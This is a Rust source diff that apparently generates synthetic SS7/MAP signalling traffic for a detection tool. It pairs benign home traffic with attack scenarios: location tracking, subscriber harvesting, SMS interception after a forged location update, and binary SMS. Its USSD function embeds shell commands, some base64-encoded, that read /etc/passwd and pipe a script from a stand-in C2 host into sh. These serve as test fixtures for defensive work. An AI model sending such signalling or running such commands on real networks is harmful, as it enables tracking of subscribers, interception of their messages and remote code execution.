@@ -1,0 +1,382 @@
+//! SS7 scenarios over M3UA/SCCP/TCAP/MAP: benign home traffic and the MAP attack families
+//! (FS.11 location tracking, harvesting, impossible travel with SMS interception, USSD C2,
+//! binary SMS).
+
+use sigscope_map::emit as map;
+use sigscope_map::sms::emit::{SmsDeliverRepr, SmsSubmitRepr, UserDataRepr, DEMO_SCTS};
+use sigscope_tcap::emit::{AcnRepr, ComponentRepr, DialogueRepr, TcapRepr};
+use sigscope_tcap::MessageType;
+
+use super::build::{Frame, Net, SynthError};
+
+/// MAP application contexts (ac, version) and operation codes used here.
+mod acs {
+    pub const NETWORK_LOC_UP: (u8, u8) = (1, 3);
+    pub const INFO_RETRIEVAL: (u8, u8) = (14, 3);
+    pub const NETWORK_UNSTRUCTURED_SS: (u8, u8) = (19, 2);
+    pub const SHORT_MSG_GATEWAY: (u8, u8) = (20, 3);
+    pub const SHORT_MSG_MO_RELAY: (u8, u8) = (21, 3);
+    pub const SHORT_MSG_MT_RELAY: (u8, u8) = (25, 3);
+    pub const SUBSCRIBER_INFO_ENQUIRY: (u8, u8) = (28, 3);
+    pub const ANY_TIME_INFO_ENQUIRY: (u8, u8) = (29, 3);
+}
+mod ops {
+    pub const UPDATE_LOCATION: i64 = 2;
+    pub const MT_FORWARD_SM: i64 = 44;
+    pub const MO_FORWARD_SM: i64 = 46;
+    pub const SRI_FOR_SM: i64 = 45;
+    pub const SEND_AUTHENTICATION_INFO: i64 = 56;
+    pub const PROCESS_USSD: i64 = 59;
+    pub const PROVIDE_SUBSCRIBER_INFO: i64 = 70;
+    pub const ANY_TIME_INTERROGATION: i64 = 71;
+}
+
+/// The HLR's global title.
+const HLR: &str = "447700900001";
+/// The home SMSC.
+const SMSC: &str = "447700900777";
+/// A home MSC/VLR.
+const HOME_VLR: &str = "447700900123";
+/// Foreign global titles (Hong Kong, Russia, Nigeria).
+const FOREIGN_GTS: [&str; 3] = ["85290001234", "79160000001", "2348030000001"];
+
+/// Home subscriber number `i` (447700900000 + i).
+fn msisdn(i: u64) -> String {
+    format!("4477009{:05}", i % 100_000)
+}
+
+/// Home IMSI `i`.
+fn imsi(i: u64) -> String {
+    format!("2341501{:08}", i % 100_000_000)
+}
+
+/// A Begin with one Invoke from `calling` to `called` (HLR side).
+fn invoke(
+    n: &mut Net,
+    calling: &str,
+    called: &str,
+    ac: (u8, u8),
+    opcode: i64,
+    arg: Vec<u8>,
+) -> Result<u32, SynthError> {
+    let otid = n.rng.next_u32();
+    n.tcap_to_hlr(
+        calling,
+        called,
+        &TcapRepr::begin_invoke(otid, ac, 1, opcode, arg),
+    )?;
+    Ok(otid)
+}
+
+/// The End answering `otid`: accepted AARE and a ReturnResultLast (with `result` if any).
+fn answer(
+    n: &mut Net,
+    from: &str,
+    to: &str,
+    otid: u32,
+    (ac, version): (u8, u8),
+    result: Option<(i64, Vec<u8>)>,
+) -> Result<(), SynthError> {
+    let end = TcapRepr {
+        msg_type: MessageType::END,
+        otid: None,
+        dtid: Some(otid),
+        dialogue: Some(DialogueRepr::Aare {
+            acn: AcnRepr::Map { ac, version },
+            result: 0,
+            diagnostic: 0,
+        }),
+        components: vec![ComponentRepr::ReturnResultLast {
+            invoke_id: 1,
+            result,
+        }],
+        p_abort_cause: None,
+    };
+    n.tcap_from_hlr(from, to, &end)
+}
+
+/// Home traffic, each dialogue answered: SMS routing, delivery and submission, authentication, location
+/// updates and a balance USSD.
+pub fn benign(seed: u64) -> Result<Vec<Frame>, SynthError> {
+    let mut n = Net::new(seed);
+    let texts = [
+        "Your code is 4821",
+        "See you at 7?",
+        "Balance low: top up now",
+        "OK",
+    ];
+    for round in 0..6u64 {
+        let sub = n.rng.below(500);
+        n.wait(2_000, 3_000);
+        let otid = invoke(
+            &mut n,
+            SMSC,
+            HLR,
+            acs::SHORT_MSG_GATEWAY,
+            ops::SRI_FOR_SM,
+            map::sri_sm_arg(&msisdn(sub), SMSC)?,
+        )?;
+        n.wait(40, 40);
+        answer(
+            &mut n,
+            HLR,
+            SMSC,
+            otid,
+            acs::SHORT_MSG_GATEWAY,
+            Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(sub), HOME_VLR)?)),
+        )?;
+
+        n.wait(200, 300);
+        let text = texts
+            .get(round as usize % texts.len())
+            .copied()
+            .unwrap_or("OK");
+        let tpdu = SmsDeliverRepr::text(&msisdn(n.rng.below(500)), text).emit()?;
+        let otid = invoke(
+            &mut n,
+            SMSC,
+            HOME_VLR,
+            acs::SHORT_MSG_MT_RELAY,
+            ops::MT_FORWARD_SM,
+            map::mt_forward_sm_arg(&imsi(sub), SMSC, &tpdu)?,
+        )?;
+        n.wait(80, 80);
+        answer(&mut n, HOME_VLR, SMSC, otid, acs::SHORT_MSG_MT_RELAY, None)?;
+
+        n.wait(1_000, 2_000);
+        let otid = invoke(
+            &mut n,
+            HOME_VLR,
+            HLR,
+            acs::INFO_RETRIEVAL,
+            ops::SEND_AUTHENTICATION_INFO,
+            map::sai_arg(&imsi(sub), 1)?,
+        )?;
+        n.wait(30, 30);
+        answer(&mut n, HLR, HOME_VLR, otid, acs::INFO_RETRIEVAL, None)?;
+        let otid = invoke(
+            &mut n,
+            HOME_VLR,
+            HLR,
+            acs::NETWORK_LOC_UP,
+            ops::UPDATE_LOCATION,
+            map::ul_arg(&imsi(sub), HOME_VLR, HOME_VLR)?,
+        )?;
+        n.wait(30, 30);
+        answer(&mut n, HLR, HOME_VLR, otid, acs::NETWORK_LOC_UP, None)?;
+
+        n.wait(500, 1_000);
+        let submit = SmsSubmitRepr {
+            mr: (round & 0xff) as u8,
+            destination: msisdn(n.rng.below(500)),
+            pid: 0,
+            dcs: 0x08,
+            validity: Some(0xa7),
+            udh: None,
+            user_data: UserDataRepr::Ucs2("Привет, see you soon".into()),
+        }
+        .emit()?;
+        let otid = invoke(
+            &mut n,
+            HOME_VLR,
+            SMSC,
+            acs::SHORT_MSG_MO_RELAY,
+            ops::MO_FORWARD_SM,
+            map::mo_forward_sm_arg(SMSC, &msisdn(sub), &submit)?,
+        )?;
+        n.wait(80, 80);
+        answer(&mut n, SMSC, HOME_VLR, otid, acs::SHORT_MSG_MO_RELAY, None)?;
+
+        if round % 2 == 0 {
+            n.wait(500, 500);
+            let otid = invoke(
+                &mut n,
+                HOME_VLR,
+                HLR,
+                acs::NETWORK_UNSTRUCTURED_SS,
+                ops::PROCESS_USSD,
+                map::ussd_arg("*100#", &msisdn(sub))?,
+            )?;
+            n.wait(100, 100);
+            let res = map::ussd_res("Your balance is 12.50 GBP")?;
+            answer(
+                &mut n,
+                HLR,
+                HOME_VLR,
+                otid,
+                acs::NETWORK_UNSTRUCTURED_SS,
+                Some((ops::PROCESS_USSD, res)),
+            )?;
+        }
+    }
+    Ok(n.frames)
+}
+
+/// Location enquiries (ATI, PSI, SRI-for-SM) for home subscribers from foreign GTs.
+pub fn fs11(seed: u64) -> Result<Vec<Frame>, SynthError> {
+    let mut n = Net::new(seed);
+    for (k, foreign) in FOREIGN_GTS.iter().enumerate() {
+        let sub = n.rng.below(1000);
+        n.wait(1_000, 5_000);
+        invoke(
+            &mut n,
+            foreign,
+            HLR,
+            acs::ANY_TIME_INFO_ENQUIRY,
+            ops::ANY_TIME_INTERROGATION,
+            map::ati_arg(&msisdn(sub), foreign)?,
+        )?;
+        n.wait(500, 5_000);
+        invoke(
+            &mut n,
+            foreign,
+            HLR,
+            acs::SUBSCRIBER_INFO_ENQUIRY,
+            ops::PROVIDE_SUBSCRIBER_INFO,
+            map::psi_arg(&imsi(sub))?,
+        )?;
+        n.wait(500, 5_000);
+        invoke(
+            &mut n,
+            foreign,
+            HLR,
+            acs::SHORT_MSG_GATEWAY,
+            ops::SRI_FOR_SM,
+            map::sri_sm_arg(&msisdn(sub + k as u64), foreign)?,
+        )?;
+    }
+    Ok(n.frames)
+}
+
+/// 25 SRI-for-SM for different subscribers from one foreign GT within a minute.
+pub fn harvesting(seed: u64) -> Result<Vec<Frame>, SynthError> {
+    let mut n = Net::new(seed);
+    let base = n.rng.below(10_000);
+    let foreign = FOREIGN_GTS
+        .get(n.rng.below(FOREIGN_GTS.len() as u64) as usize)
+        .copied()
+        .unwrap_or("85290001234");
+    for i in 0..25u64 {
+        n.wait(1_500, 1_000);
+        invoke(
+            &mut n,
+            foreign,
+            HLR,
+            acs::SHORT_MSG_GATEWAY,
+            ops::SRI_FOR_SM,
+            map::sri_sm_arg(&msisdn(base + i * 7), foreign)?,
+        )?;
+    }
+    Ok(n.frames)
+}
+
+/// SAI and UL from the home VLR, a UL from a foreign VLR ten minutes later, then an SMS to
+/// the new node.
+pub fn travel(seed: u64) -> Result<Vec<Frame>, SynthError> {
+    let mut n = Net::new(seed);
+    let sub = imsi(n.rng.below(1000));
+    let foreign = FOREIGN_GTS
+        .get(n.rng.below(FOREIGN_GTS.len() as u64) as usize)
+        .copied()
+        .unwrap_or("85290001234");
+    invoke(
+        &mut n,
+        HOME_VLR,
+        HLR,
+        acs::INFO_RETRIEVAL,
+        ops::SEND_AUTHENTICATION_INFO,
+        map::sai_arg(&sub, 1)?,
+    )?;
+    n.wait_ms(1_000);
+    invoke(
+        &mut n,
+        HOME_VLR,
+        HLR,
+        acs::NETWORK_LOC_UP,
+        ops::UPDATE_LOCATION,
+        map::ul_arg(&sub, HOME_VLR, HOME_VLR)?,
+    )?;
+    n.wait(600_000, 60_000);
+    invoke(
+        &mut n,
+        foreign,
+        HLR,
+        acs::NETWORK_LOC_UP,
+        ops::UPDATE_LOCATION,
+        map::ul_arg(&sub, foreign, foreign)?,
+    )?;
+    n.wait(30_000, 30_000);
+    let tpdu = SmsDeliverRepr::text(SMSC, "Your bank code is 112233").emit()?;
+    invoke(
+        &mut n,
+        SMSC,
+        foreign,
+        acs::SHORT_MSG_MT_RELAY,
+        ops::MT_FORWARD_SM,
+        map::mt_forward_sm_arg(&sub, SMSC, &tpdu)?,
+    )?;
+    Ok(n.frames)
+}
+
+/// USSD strings that carry commands.
+pub fn ussd_c2(seed: u64) -> Result<Vec<Frame>, SynthError> {
+    let mut n = Net::new(seed);
+    let commands = [
+        "aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvcGFzc3dk",
+        "cat /etc/passwd",
+        "id;uname -a && whoami",
+        "Y3VybCAtcyBodHRwOi8vYzIuZXhhbXBsZS9wIHwgc2g=",
+    ];
+    for c in commands {
+        n.wait(5_000, 20_000);
+        let sub = msisdn(n.rng.below(1000));
+        invoke(
+            &mut n,
+            "85290001234",
+            HLR,
+            acs::NETWORK_UNSTRUCTURED_SS,
+            ops::PROCESS_USSD,
+            map::ussd_arg(c, &sub)?,
+        )?;
+    }
+    Ok(n.frames)
+}
+
+/// mt-ForwardSM from a foreign SMSC with encrypted-looking 8-bit payloads.
+pub fn sms_binary(seed: u64) -> Result<Vec<Frame>, SynthError> {
+    let mut n = Net::new(seed);
+    let foreign = "85290001234";
+    let variants: [(u8, u8, Option<Vec<u8>>, usize); 3] = [
+        (0x00, 0x04, None, 120),
+        (0x00, 0xf6, None, 80),
+        (
+            0x00,
+            0x04,
+            Some(vec![0x05, 0x04, 0x23, 0xf4, 0x00, 0x00]),
+            64,
+        ),
+    ];
+    for (pid, dcs, udh, len) in variants {
+        n.wait(3_000, 10_000);
+        let payload = n.rng.bytes(len);
+        let tpdu = SmsDeliverRepr {
+            originator: foreign.to_string(),
+            pid,
+            dcs,
+            scts: DEMO_SCTS,
+            udh,
+            user_data: UserDataRepr::Binary(payload),
+        }
+        .emit()?;
+        let sub = imsi(n.rng.below(1000));
+        invoke(
+            &mut n,
+            foreign,
+            "447700900555",
+            acs::SHORT_MSG_MT_RELAY,
+            ops::MT_FORWARD_SM,
+            map::mt_forward_sm_arg(&sub, foreign, &tpdu)?,
+        )?;
+    }
+    Ok(n.frames)
+}
